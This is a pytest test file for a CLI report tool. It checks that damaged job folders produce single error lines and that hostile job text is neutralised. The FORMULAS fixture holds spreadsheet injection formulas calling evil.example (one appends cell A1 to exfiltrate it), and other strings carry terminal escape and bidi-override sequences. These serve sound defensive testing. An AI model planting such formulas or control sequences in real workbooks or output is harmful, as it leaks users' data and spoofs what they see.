"""``batchclf report`` on hostile and damaged job folders (issue 23, points 10, 12, 13's ``--xlsx DIR``, 14).

Every bad folder is one ``Error: FILE: ...`` line (never a traceback), a
stray folder named like a job is skipped with a warning, ``--json`` is
always strict JSON, no text from a job reaches a workbook as a formula or
the terminal as a control sequence.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import batchclf
from typer.testing import CliRunner

from batchclf.cli import app
from batchclf.jobs.rows import make_row

from .helpers import write_results_csv

ROOT = Path(batchclf.__file__).resolve().parent.parent  # the checkout whose code is under test
JOB = "20261125T030000Z-00aa"
MODEL = {"file": "default.keras", "sha256": "ab" * 32, "architecture": "default", "card_accuracy": 0.99}
ESC_NAME = "\x1b]0;pwned\x07evil\x1b[2J\r.png"  # set the title, clear the screen, return to column 0


def review_row(file, status="review", label=3, confidence=0.5, page=1, **fields):
    """A row, by default a review at 50% (runner-up label+1); failed rows have no page, no scores."""
    scored = status in ("ok", "review")
    return make_row(
        file=file, page=page if status != "failed" else None, status=status,
        label=label if scored else None, confidence=confidence if scored else None,
        second_label=(label + 1) % 10 if scored else None, second_confidence=round(1 - confidence, 6) if scored else None,
        processed_at="2026-11-25T03:00:00.000Z", model="default.keras", **fields,
    )


def write_job_or_raw_summary(jobs: Path, name: str, rows: list[dict], meta: dict | None = None,
                             raw_summary: str | None = None) -> Path:
    """The job folder ``jobs/name``: results.csv, and a summary.json that is ``raw_summary`` as given, or else the
    job id, its kind and this file's MODEL (no device), updated by ``meta``."""
    folder = jobs / name
    folder.mkdir(parents=True)
    write_results_csv(folder, rows)
    summary = {"job_id": name, "kind": "watch" if name.startswith("watch-") else "classify", "model": MODEL, **(meta or {})}
    (folder / "summary.json").write_text(raw_summary if raw_summary is not None else json.dumps(summary), encoding="utf-8")
    return folder


def report_cli(*args: str):
    """``batchclf report ARGS`` through the real CLI: (exit code, stdout, stderr)."""
    result = CliRunner().invoke(app, ["report", *args])
    return result.exit_code, result.stdout, result.stderr


def strict_json(text: str):
    def refuse(name):
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


# -- point 10: damaged job folders --------------------------------------------------------------

DAMAGED_SUMMARIES = {
    "nested deep": '{"model": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "Infinity": '{"kind": "classify", "seconds": Infinity}',
    "NaN": '{"kind": "classify", "review_below": NaN}',
    "huge float": '{"kind": "classify", "seconds": 1e999}',
    "huge integer": '{"kind": "classify", "seconds": ' + "9" * 5000 + "}",
    "big seconds": '{"kind": "classify", "seconds": ' + "9" * 400 + "}",
    "model not an object": '{"kind": "classify", "model": "=x"}',
    "model file a number": '{"kind": "classify", "model": {"file": 5}}',
    "started not a time": '{"kind": "classify", "started": "yesterday"}',
    "kind unknown": '{"kind": "bogus"}',
    "inputs a string": '{"kind": "classify", "inputs": "/"}',
    "counts wrong": '{"kind": "classify", "counts": {"ok": "many"}}',
    "card accuracy": '{"kind": "classify", "model": {"card_accuracy": 7}}',
}


@pytest.mark.parametrize("case", sorted(DAMAGED_SUMMARIES))
def test_a_damaged_summary_is_one_error_line_naming_it(tmp_path, case):
    folder = write_job_or_raw_summary(tmp_path / "jobs", JOB, [review_row("a.png")], raw_summary=DAMAGED_SUMMARIES[case])
    code, out, err = report_cli(JOB, "--jobs", str(tmp_path / "jobs"), "--json")
    lines = err.strip().splitlines()
    assert code == 1 and len(lines) == 1 and lines[0].startswith(f"Error: {folder / 'summary.json'}: "), (case, err)
    assert out == ""


def test_a_summary_that_is_a_fifo_is_refused_not_waited_on(tmp_path):
    folder = write_job_or_raw_summary(tmp_path / "jobs", JOB, [review_row("a.png")])
    (folder / "summary.json").unlink()
    os.mkfifo(folder / "summary.json")
    code, _, err = report_cli(JOB, "--jobs", str(tmp_path / "jobs"))
    assert code == 1 and err.startswith(f"Error: {folder / 'summary.json'}: not a regular file")


def test_json_never_holds_nan_or_infinity(tmp_path):
    rows = [review_row("nan.png", confidence=float("nan")), review_row("inf.png", confidence=float("inf")), review_row("fine.png", confidence=0.4)]
    rows[0]["second_confidence"] = float("nan")
    write_job_or_raw_summary(tmp_path / "jobs", JOB, rows, {"seconds": 5e-324})  # a rate of files over a denormal is infinite
    code, out, err = report_cli("--jobs", str(tmp_path / "jobs"), "--json")
    assert code == 0, err
    report = strict_json(out)
    (job,) = report["jobs"]
    assert job["rows"] == 3 and job["counts"]["review"] == 3
    assert [r["file"] for r in job["lowest_confidence"]] == ["fine.png"]  # NaN and infinity are no score
    assert sum(job["confidence_histogram"]["counts"]) == 1
    assert job["files_per_second"] is None and report["totals"]["files_per_second"] is None


def test_text_in_a_number_column_is_an_error_line(tmp_path):
    folder = write_job_or_raw_summary(tmp_path / "jobs", JOB, [review_row("a.png")])
    text = (folder / "results.csv").read_text(encoding="utf-8").replace(",0.5,", ",lots,")
    (folder / "results.csv").write_text(text, encoding="utf-8")
    code, _, err = report_cli("--jobs", str(tmp_path / "jobs"))
    assert code == 1 and err.strip() == f"Error: {folder / 'results.csv'}: confidence 'lots' is not a number"


@pytest.mark.parametrize("since", ["99999999d", "99999999999w", "999999999999m"])
def test_since_too_far_back_is_an_error_line(tmp_path, since):
    write_job_or_raw_summary(tmp_path / "jobs", JOB, [review_row("a.png")])
    code, _, err = report_cli("--jobs", str(tmp_path / "jobs"), "--since", since)
    assert code == 1 and err.startswith("Error: --since") and len(err.strip().splitlines()) == 1


def test_stray_folders_named_like_jobs_are_skipped_with_a_warning(tmp_path):
    jobs = tmp_path / "jobs"
    write_job_or_raw_summary(jobs, JOB, [review_row("a.png")])
    strays = ["watch-2026-02-30", "20261399T999999Z-ab", "watch-9999-12-31", "watch-2026-11-26"]
    for name in strays:
        (jobs / name).mkdir()
    (jobs / "notes").mkdir()  # not named like a job: not ours, no warning
    code, out, err = report_cli("--jobs", str(jobs), "--json")
    assert code == 0, err
    assert [job["id"] for job in strict_json(out)["jobs"]] == [JOB]  # the latest real job, not a stray
    for name in strays:
        assert f"warning: skipped {jobs / name}: " in err
    assert "notes" not in err
    code, out, err = report_cli("--jobs", str(jobs), "--since", "3650d", "--json")
    assert code == 0 and [job["id"] for job in strict_json(out)["jobs"]] == [JOB]


def test_a_job_dated_in_the_future_never_becomes_the_latest(tmp_path):
    jobs = tmp_path / "jobs"
    write_job_or_raw_summary(jobs, JOB, [review_row("a.png")])
    write_job_or_raw_summary(jobs, "watch-9999-12-31", [review_row("b.png")], {"inbox": str(tmp_path / "inbox")})
    code, out, err = report_cli("--jobs", str(jobs), "--json")
    assert code == 0 and [job["id"] for job in strict_json(out)["jobs"]] == [JOB]
    assert "dated in the future" in err
    code, out, _ = report_cli("watch-9999-12-31", "--jobs", str(jobs), "--json")  # named: still readable
    assert code == 0 and strict_json(out)["jobs"][0]["id"] == "watch-9999-12-31"


# -- point 12: the workbook ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=WEBSERVICE(\"http://evil.example\")", "=1+1"]


def test_no_text_from_a_job_becomes_a_workbook_formula(tmp_path):
    pytest.importorskip("openpyxl")
    from openpyxl import load_workbook

    jobs = tmp_path / "jobs"
    rows = [review_row(FORMULAS[2], error=FORMULAS[1]), review_row("ctl\x01\x1b.png", status="failed", error="bad\x00byte")]
    write_job_or_raw_summary(jobs, JOB, rows, {"job_id": FORMULAS[0], "model": {**MODEL, "file": FORMULAS[1], "sha256": FORMULAS[2]}})
    book_path = tmp_path / "report.xlsx"
    code, _, err = report_cli("--jobs", str(jobs), "--xlsx", str(book_path))
    assert code == 0, err
    with zipfile.ZipFile(book_path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere
    book = load_workbook(book_path)
    summary = [cell for line in book["Summary"].iter_rows() for cell in line]
    rows_cells = [cell for line in book["Rows"].iter_rows() for cell in line]
    for text in FORMULAS:
        shown = [cell for cell in summary + rows_cells if cell.value == text]
        assert shown and all(cell.data_type == "s" for cell in shown), text
    assert any(cell.value == "ctl\\x01\\x1b.png" for cell in rows_cells)  # controls shown, as on the terminal
    assert book["Summary"]["A2"].value == FORMULAS[0] and book["Rows"]["A2"].value == FORMULAS[0]


def test_xlsx_given_a_folder_is_one_error_line_and_nothing_else(tmp_path):
    pytest.importorskip("openpyxl")
    jobs = tmp_path / "jobs"
    write_job_or_raw_summary(jobs, JOB, [review_row("a.png")])
    target = tmp_path / "out"
    target.mkdir()
    result = subprocess.run(
        [sys.executable, "-m", "batchclf", "report", "--jobs", str(jobs), "--xlsx", str(target)],
        capture_output=True, text=True, cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120,
    )
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [f"Error: cannot write {target}: it is a folder (give a file name, e.g. {target / 'report.xlsx'})"]
    assert os.listdir(target) == []


# -- point 14: the terminal ---------------------------------------------------------------------


def test_names_from_a_job_reach_the_terminal_escaped(tmp_path):
    jobs = tmp_path / "jobs"
    rows = [review_row(ESC_NAME, confidence=0.2), review_row("\u202egnp.fdp", status="failed", error="reason\x1b[1A\x1b[2K")]
    write_job_or_raw_summary(jobs, JOB, rows, {"job_id": "job\x1b[31m", "device": "cpu\x07", "model": {**MODEL, "file": "m\x1b]2;t\x07.keras"}})
    code, out, err = report_cli("--jobs", str(jobs))
    assert code == 0, err
    assert not any(char in out for char in "\x1b\x07\r\u202e")
    assert "\\x1b]0;pwned\\x07evil\\x1b[2J\\x0d.png" in out and "\\u202egnp.fdp" in out
    assert "reason\\x1b[1A\\x1b[2K" in out and "job job\\x1b[31m" in out and "m\\x1b]2;t\\x07.keras" in out


def test_names_are_never_read_as_markup(tmp_path):
    """Many jobs: the model column once took rich markup, so a model named ``x[/]`` was a traceback."""
    jobs = tmp_path / "jobs"
    write_job_or_raw_summary(jobs, JOB, [review_row("a.png")], {"model": {**MODEL, "file": "x[/]"}})
    write_job_or_raw_summary(jobs, "20261125T040000Z-00bb", [review_row("b.png")], {"job_id": "[bold]id\x1b", "model": {**MODEL, "sha256": "cd" * 32}})
    code, out, err = report_cli("--jobs", str(jobs), "--last", "2")
    assert code == 0, err
    assert "x[/]" in out and "[bold]id\\x1b" in out and "\x1b" not in out and "(changed)" in out


def test_warnings_about_skipped_folders_are_escaped_too(tmp_path):
    jobs = tmp_path / "jobs"
    write_job_or_raw_summary(jobs, JOB, [review_row("a.png")])
    (jobs / "watch-\x1b[2J").mkdir()
    code, _, err = report_cli("--jobs", str(jobs))
    assert code == 0 and "watch-\\x1b[2J" in err and "\x1b" not in err
